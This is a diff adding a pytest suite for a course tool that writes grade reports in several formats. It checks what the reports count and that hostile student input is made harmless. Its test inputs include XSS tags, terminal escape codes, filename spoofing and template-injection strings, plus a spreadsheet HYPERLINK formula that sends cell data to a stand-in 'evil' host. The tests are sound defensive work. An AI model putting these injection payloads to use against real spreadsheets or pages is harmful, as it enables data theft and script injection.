@@ -1,0 +1,494 @@
+"""Reports on a class: what they count, and that nothing in a result can do harm."""
+
+import csv
+import json
+import os
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote, urlsplit
+from xml.etree import ElementTree
+
+import pytest
+from graded import FLAT, class_of_30, result, save, task
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from coursetools.cells import UnusableInput
+from coursetools.cli import WORDS, main
+from coursetools.filenames import distinct, portable
+from coursetools.report import WRITERS, write_reports
+from coursetools.report.gradebooks import GRADES, cell
+from coursetools.report.results import read_results
+from coursetools.report.statistics import count_tasks
+from coursetools.wording import shown
+
+HOSTILE = {
+    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "quotes": "\"'><b onclick='x'>",
+    "entity": "&lt;script&gt; & co",
+    "formula": '=HYPERLINK("http://evil/?"&A1,"click")',
+    "terminal": "\x1b[2J\x1b]0;owned\x07",
+    "direction": "abc\u202etxt.exe",
+    "surrogate": "half \ud800 a pair",
+    "template": "{{ 7 * 7 }}{% raw %}",
+    "csv": 'a","b\r\n=1+1,',
+    "null": "a\x00b\ufffe",
+}
+
+
+def table(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.reader(file))
+
+
+class Words(HTMLParser):
+    """What a page shows, and which tags and attributes it is made of."""
+
+    def __init__(self, path: Path) -> None:
+        super().__init__()
+        self.text = ""
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str | None]] = []
+        self.feed(path.read_text(encoding="utf-8"))
+        self.text = " ".join(self.text.split())
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.text += " " * (tag in ("td", "th"))
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def files_in(folder: Path) -> Iterator[Path]:
+    return (path for path in folder.rglob("*") if path.is_file())
+
+
+# What is counted
+
+
+def test_grades_have_a_row_for_each_student_and_task(tmp_path):
+    save(
+        tmp_path,
+        "ana",
+        result(task(), task("attention", "fail", ["no-scale", "q-k-swapped"], "Why?")),
+    )
+    save(tmp_path, "ben", result(task(status="timeout", message="Slow.")))
+    (path,) = write_reports(tmp_path, ["csv"])
+    assert path == tmp_path / "report" / "grades.csv"
+    head, *rows = table(path)
+    assert head == list(GRADES)
+    assert [row[:6] for row in rows] == [
+        ["ana", "03_softmax_axis", "softmax", "pass", "2", "2"],
+        ["ana", "03_softmax_axis", "attention", "fail", "0", "2"],
+        ["ben", "03_softmax_axis", "softmax", "timeout", "0", "2"],
+    ]
+    assert rows[1][6:] == ["no-scale q-k-swapped", "Why?"]
+
+
+def test_the_class_page_says_7_of_30_scale_by_d_model(tmp_path):
+    write_reports(class_of_30(tmp_path))
+    said = Words(tmp_path / "report" / "class.html").text
+    assert "7 of 30 scale by sqrt d_model in multi_head_attention" in said
+    assert FLAT in said
+    assert "23 of 30 right" in said
+    assert "30 of 30 right" in said
+    assert "05_multi_head multi_head_attention 23 7 0 0 0 0 0" in said
+
+
+def test_isolation_is_said_for_the_class_and_for_each_student(tmp_path):
+    write_reports(class_of_30(tmp_path))
+    said = Words(tmp_path / "report" / "class.html").text
+    assert "Isolation of 30 of 31 notebooks: bwrap" in said
+    assert "Isolation of 1 of 31 notebooks: limits" in said
+    assert "reading of files is not stopped" in said
+    assert "limits" not in Words(tmp_path / "report" / "students" / "student 01.html").text
+
+
+def test_two_mistakes_count_for_both_and_their_words_for_neither(tmp_path):
+    both = task(status="fail", mistakes=["no-scale", "q-k-swapped"], message="Two slips.")
+    save(tmp_path, "ana", result(both))
+    write_reports(tmp_path, ["html"])
+    said = Words(tmp_path / "report" / "class.html").text
+    assert "1 of 1 no scale in" in said
+    assert "1 of 1 q k swapped in" in said
+    assert "Two slips." not in said
+
+
+def test_the_most_frequent_mistake_of_a_task_comes_first(tmp_path):
+    for number, slug in enumerate(["a-slip", "the-usual", "the-usual", "z-slip"]):
+        save(tmp_path, f"s{number}", result(task(status="fail", mistakes=[slug])))
+    results, _ = read_results(tmp_path)
+    (counted,) = count_tasks(results)
+    found = [(mistake.slug, mistake.count, mistake.of) for mistake in counted.mistakes]
+    assert found == [("the-usual", 2, 4), ("a-slip", 1, 4), ("z-slip", 1, 4)]
+
+
+def test_what_is_wrong_without_a_name_is_counted_too(tmp_path):
+    save(tmp_path, "ana", result(task(status="fail", message="On which input?")))
+    save(tmp_path, "ben", result(task(status="error", message="It raised.")))
+    write_reports(tmp_path, ["html"])
+    assert (
+        "1 of 2 wrong in a way that has no name" in Words(tmp_path / "report" / "class.html").text
+    )
+
+
+def test_a_student_page_has_the_words_of_the_check_its_question_and_the_notes(tmp_path):
+    wrong = task(
+        "attention", "fail", ["no-scale"], "The numbers differ. No root. What is the spread?"
+    )
+    save(tmp_path, "Ana Núñez", result(task(), wrong, notes=["cell a was edited"]))
+    write_reports(tmp_path, ["html"])
+    path = tmp_path / "report" / "students" / "Ana Núñez.html"
+    said = Words(path).text
+    assert "✗ attention : not right yet 0 of 2 points" in said.replace(":", " :")
+    assert "The numbers differ. No root. What is the spread?" in said
+    assert '<p class="question">What is the spread?</p>' in path.read_text(encoding="utf-8")
+    assert "✓ Each row sums to 1. ✓ Your arguments are left as they were." in said
+    assert "cell a was edited" in said
+    assert "2 of 4 points" in said
+
+
+@pytest.mark.parametrize("status", WORDS)
+def test_every_status_has_its_words_everywhere(tmp_path, status):
+    save(tmp_path, "ana", result(task(status=status, message="M.")))
+    write_reports(tmp_path, WRITERS)
+    report = tmp_path / "report"
+    assert f": {WORDS[status]}" in Words(report / "students" / "ana.html").text
+    assert WORDS[status] in Words(report / "class.html").text
+    assert table(report / "grades.csv")[1][3] == status
+
+
+def test_junit_tells_failures_errors_and_what_was_skipped(tmp_path):
+    statuses = ["pass", "fail", "error", "timeout", "dead", "not_attempted", "not_reached"]
+    tasks = [task(f"t{number}", status, message="M.") for number, status in enumerate(statuses)]
+    save(tmp_path, "ana", result(*tasks, notes=["a note"]))
+    (path,) = write_reports(tmp_path, ["junit"])
+    root = ElementTree.parse(path).getroot()
+    counts = {key: root.get(key) for key in ("tests", "failures", "errors", "skipped")}
+    assert counts == {"tests": "7", "failures": "1", "errors": "3", "skipped": "2"}
+    (suite,) = root
+    assert suite.get("name") == "ana/03_softmax_axis"
+    kinds = [next((found.tag for found in case), "pass") for case in suite.findall("testcase")]
+    assert kinds == ["pass", "failure", "error", "error", "error", "skipped", "skipped"]
+    assert suite.find("properties/property[@name='isolation']").get("value") == "bwrap"
+    assert suite.findtext("system-out") == "a note"
+
+
+def test_moodle_gets_points_and_feedback_for_each_notebook(tmp_path):
+    (path,) = write_reports(class_of_30(tmp_path), ["moodle"])
+    head, first, second, *_ = table(path)
+    assert head == [
+        "Student",
+        *("03_softmax_axis", "03_softmax_axis feedback"),
+        *("05_multi_head", "05_multi_head feedback"),
+    ]
+    assert first[0:2] + first[3:] == ["student 00", "0", "2", f"multi_head_attention: {FLAT}"]
+    assert second[1:4] == ["", "", "2"]
+
+
+def test_moodle_gets_a_worksheet_for_each_notebook_where_participants_are_known(tmp_path):
+    slip = task("attention", "fail", ["no-scale"], "No root. What is the spread?")
+    save(tmp_path, "Ana Núñez_1234", result(task(), slip))
+    save(tmp_path, "ben@example.org", result(task()))
+    save(tmp_path, "cy_77", result(task(), notebook="04_causal_mask"))
+    write_reports(tmp_path, ["moodle"])
+    head, *rows = table(tmp_path / "report" / "moodle-03_softmax_axis.csv")
+    assert {"Identifier", "Grade", "Last modified (grade)", "Feedback comments"} <= set(head)
+    feedback = "attention: No root. What is the spread?"
+    assert rows == [["Participant 1234", "Ana Núñez", "2", "4", "", feedback]]
+    _, row = table(tmp_path / "report" / "moodle-04_causal_mask.csv")
+    assert row == ["Participant 77", "cy", "2", "2", "", "All right."]
+
+
+def test_canvas_gets_the_points_possible_and_the_number_that_its_downloads_carry(tmp_path):
+    save(tmp_path, "doejane_1234", result(task(), task("attention")))
+    save(tmp_path, "bob@example.org", result(task(), notebook="04_causal_mask"))
+    (path,) = write_reports(tmp_path, ["canvas"])
+    assert table(path) == [
+        [
+            "Student",
+            "ID",
+            "SIS User ID",
+            "SIS Login ID",
+            "Section",
+            "03_softmax_axis",
+            "04_causal_mask",
+        ],
+        ["Points Possible", "", "", "", "", "4", "2"],
+        ["bob@example.org", "", "", "bob@example.org", "", "", "2"],
+        ["doejane", "1234", "", "", "", "4", ""],
+    ]
+
+
+def test_gradescope_gets_a_file_for_each_student(tmp_path):
+    (folder,) = write_reports(class_of_30(tmp_path), ["gradescope"])
+    assert len(list(folder.iterdir())) == 30
+    content = json.loads((folder / "student 00" / "results.json").read_text())
+    assert content["score"] == 2
+    assert [test["status"] for test in content["tests"]] == ["failed", "passed", "failed"]
+    assert content["tests"][2]["tags"] == ["scale-by-sqrt-d_model"]
+    assert all(test.keys() >= {"name", "score", "max_score", "output"} for test in content["tests"])
+
+
+def test_the_file_that_is_called_after_its_exercise_counts(tmp_path):
+    save(tmp_path, "ana", result(task(status="fail")), name="01_copy")
+    save(tmp_path, "ana", result(task()))
+    complaints = []
+    (path,) = write_reports(tmp_path, ["csv"], complaints.append)
+    assert [row[3] for row in table(path)] == ["status", "pass"]
+    (line,) = complaints
+    assert "01_copy.json: its exercise is there twice" in line
+
+
+# What must do no harm
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_no_text_of_a_result_does_harm(tmp_path, text):
+    wrong = task(text, "fail", ["no-scale"], text)
+    save(tmp_path, "ana", result(wrong, notes=[text], notebook=text), name="03")
+    write_reports(tmp_path, WRITERS)
+    _require_harmless(tmp_path / "report", text)
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_no_name_of_a_student_does_harm(tmp_path, text):
+    name = text.replace("/", "|").replace("\x00", "")
+    raw = name.encode(errors="surrogateescape" if "\ud800" not in name else "replace")
+    save(tmp_path, os.fsdecode(raw), result(task()))
+    write_reports(tmp_path, WRITERS)
+    _require_harmless(tmp_path / "report", name)
+
+
+def _require_harmless(report: Path, text: str) -> None:
+    for path in files_in(report):
+        content = path.read_bytes().decode()
+        allowed = "\n\r" if path.suffix == ".csv" else "\n"
+        assert not [one for one in content if ord(one) < 32 and one not in allowed], path
+        assert "\u202e" not in content
+    for path in (report / "gradescope").rglob("*.json"):
+        content = path.read_text()
+        assert all(one == shown(one) for one in _strings(json.loads(content)))
+    for path in (report / "class.html", *(report / "students").iterdir()):
+        page = Words(path)
+        assert page.tags.isdisjoint({"script", "img", "b"})
+        assert not [name for name, _ in page.attributes if name.startswith("on")]
+    assert "49" not in Words(report / "class.html").text
+    for row in table(report / "grades.csv"):
+        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
+        assert len(row) == 8
+    ElementTree.parse(report / "junit.xml")
+
+
+def _strings(content: Any) -> list[str]:
+    if isinstance(content, dict):
+        content = list(content.values())
+    if isinstance(content, list):
+        return [text for part in content for text in _strings(part)]
+    return [content] if isinstance(content, str) else []
+
+
+@pytest.mark.parametrize(
+    "name", ["x..", "x" * 255, "a\nb", "what?", "\udce9\udcff", "-rf", "ä" * 127]
+)
+def test_no_name_leads_out_of_the_folder(tmp_path, name):
+    save(tmp_path / "out", name, result())
+    before = set(files_in(tmp_path))
+    write_reports(tmp_path / "out", WRITERS)
+    written = set(files_in(tmp_path)) - before
+    assert len(written) == 7
+    assert all(path.is_relative_to(tmp_path / "out" / "report") for path in written)
+
+
+def test_names_that_differ_in_case_or_in_bad_bytes_have_a_page_each(tmp_path):
+    students = ["Ana", "ana", "caf\udce9", "caf\udce8"]
+    for student in students:
+        save(tmp_path, student, result(notes=[f"note of {os.fsencode(student)!r}"]))
+    write_reports(tmp_path, ["html"])
+    pages = list((tmp_path / "report" / "students").iterdir())
+    assert len({page.name.casefold() for page in pages}) == 4
+    said = " ".join(Words(page).text for page in pages)
+    assert all(f"note of {os.fsencode(student)!r}" in said for student in students)
+
+
+def test_every_link_of_the_class_page_leads_to_a_page(tmp_path):
+    for student in ["50% #1?", "a b", "ü&ö", "javascript:alert(1)"]:
+        save(tmp_path, student, result())
+    write_reports(tmp_path, ["html"])
+    page = Words(tmp_path / "report" / "class.html")
+    links = [
+        value for name, value in page.attributes if name == "href" and not value.startswith("#")
+    ]
+    assert len(links) == 4
+    assert all((tmp_path / "report" / unquote(urlsplit(link).path)).is_file() for link in links)
+    assert all(link.startswith("students/") for link in links)
+
+
+def test_a_student_called_report_is_a_student_like_any_other(tmp_path):
+    save(tmp_path, "report", result())
+    save(tmp_path, "ana", result())
+    for _ in range(2):
+        write_reports(tmp_path, WRITERS)
+    assert [row[0] for row in table(tmp_path / "report" / "grades.csv")[1:]] == ["ana", "report"]
+
+
+def test_pages_need_nothing_from_elsewhere_and_run_nothing(tmp_path):
+    write_reports(class_of_30(tmp_path))
+    for path in files_in(tmp_path / "report"):
+        if path.suffix == ".html":
+            page, content = Words(path), path.read_text(encoding="utf-8")
+            assert page.tags.isdisjoint({"script", "link", "img", "iframe", "object"})
+            assert "url(" not in content
+            assert "default-src 'none'" in content
+
+
+@settings(deadline=None)
+@given(st.text())
+@example("..")
+@example(".")
+@example("")
+def test_whatever_the_name_its_file_is_one_in_its_folder(name):
+    own = portable(name)
+    assert Path("folder", own).name == own
+    assert Path("folder", own).resolve().parent == Path("folder").resolve()
+    assert len(f".{own}.html.{2**22}".encode()) <= 255
+    own.encode()
+
+
+@settings(deadline=None)
+@given(st.lists(st.text(alphabet="aAäÄ./ \udcff"), unique=True))
+def test_no_two_names_share_a_file(names):
+    found = distinct(names)
+    assert found.keys() == set(names)
+    assert len({own.casefold() for own in found.values()}) == len(names)
+
+
+@settings(deadline=None)
+@given(st.text())
+def test_whatever_the_text_what_is_shown_can_be_printed_and_stored(text):
+    clean = shown(text)
+    assert len(clean) == len(text)
+    clean.encode()
+    assert all(one.isprintable() or one in "\u200c\u200d" for one in clean)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+49 30", "'+49 30"),
+        ("-", "'-"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "' =1"),
+        ("\rx", "' x"),
+        (" =1+1", "' =1+1"),
+        ("-1.5", "-1.5"),
+        ("+3e-5", "+3e-5"),
+        ("-inf", "'-inf"),
+        ("plain", "plain"),
+        ("", ""),
+        (2.5, "2.5"),
+        (3.0, "3"),
+    ],
+)
+def test_a_cell_that_looks_like_a_formula_gets_an_apostrophe(value, expected):
+    assert cell(value) == expected
+
+
+# What is unusable
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "",
+        '{"schema": 1, "noteb',
+        "[]",
+        "null",
+        "[" * 100_000,
+        json.dumps({**result(), "schema": 2}),
+        json.dumps({**result(), "isolation": "vm"}),
+        json.dumps(result(task(status="excellent"))),
+        json.dumps(result(task())).replace('"points": 2', '"points": NaN'),
+        json.dumps(result(task())).replace('"points": 2', '"points": 1e999'),
+        json.dumps(result(task())).replace('"points": 2', f'"points": {"9" * 5000}'),
+        json.dumps(result()) + " " * 1_000_000,
+    ],
+    ids=str.__len__,
+)
+def test_a_torn_or_foreign_file_is_one_line_and_the_others_are_reported(tmp_path, capsys, content):
+    save(tmp_path, "ana", result())
+    save(tmp_path, "bad\x1b[2J", content, name="03_softmax_axis")
+    assert main(["report", str(tmp_path), "--format", "csv"]) == 2
+    printed, complaint = capsys.readouterr()
+    assert printed == f"{tmp_path}/report/grades.csv\n"
+    (line,) = complaint.splitlines()
+    assert line.startswith(f"coursetools: {tmp_path}/bad�[2J/03_softmax_axis.json: ")
+    assert [row[0] for row in table(tmp_path / "report" / "grades.csv")[1:]] == ["ana"]
+
+
+def test_links_fifos_and_hidden_files_are_not_read(tmp_path):
+    save(tmp_path / "out", "ana", result())
+    elsewhere = save(tmp_path, "secret", result(task(message="secret")))
+    (tmp_path / "out" / "ana" / "link.json").symlink_to(elsewhere)
+    os.mkfifo(tmp_path / "out" / "ana" / "pipe.json")
+    (tmp_path / "out" / "linked").symlink_to(elsewhere.parent)
+    save(tmp_path / "out", ".hidden", result())
+    save(tmp_path / "out", "ana", "{", name=".draft")
+    complaints = []
+    (path,) = write_reports(tmp_path / "out", ["csv"], complaints.append)
+    assert [row[0] for row in table(path)[1:]] == ["ana"]
+    assert sorted(line.split(":")[0].rpartition("/")[2] for line in complaints) == [
+        "link.json",
+        "pipe.json",
+    ]
+
+
+@pytest.mark.parametrize("kind", ["missing", "file", "empty"])
+def test_a_folder_without_results_is_status_2_and_one_line(tmp_path, capsys, kind):
+    out = tmp_path / "out"
+    if kind == "file":
+        out.write_text("")
+    elif kind == "empty":
+        out.mkdir()
+    assert main(["report", str(out), "--format", "html"]) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert line.startswith(f"coursetools: {out}: ")
+
+
+def test_a_folder_that_cannot_be_written_is_one_line(tmp_path, capsys):
+    save(tmp_path, "ana", result())
+    (tmp_path / "report").write_text("in the way")
+    assert main(["report", str(tmp_path), "--format", "html"]) == 2
+    (line,) = capsys.readouterr().err.splitlines()
+    assert "cannot be written" in line
+
+
+def test_a_full_disk_leaves_the_report_before_as_it_was(tmp_path, monkeypatch):
+    save(tmp_path, "ana", result())
+    (path,) = write_reports(tmp_path, ["csv"])
+    before = path.read_bytes()
+    save(tmp_path, "ben", result())
+
+    def full(draft, content):
+        raise OSError(28, "No space left on device", str(draft))
+
+    monkeypatch.setattr(Path, "write_bytes", full)
+    with pytest.raises(UnusableInput, match="No space left on device"):
+        write_reports(tmp_path, ["csv"])
+    assert path.read_bytes() == before
+
+
+def test_each_format_prints_where_it_went(tmp_path, capsys):
+    class_of_30(tmp_path)
+    places = []
+    for name in WRITERS:
+        assert main(["report", str(tmp_path), "--format", name]) == 0
+        places.append(capsys.readouterr().out.strip().removeprefix(f"{tmp_path}/report/"))
+    names = ["grades.csv", "junit.xml", "class.html", "moodle.csv", "canvas.csv", "gradescope"]
+    assert places == names
+    assert all((tmp_path / "report" / name).exists() for name in names)
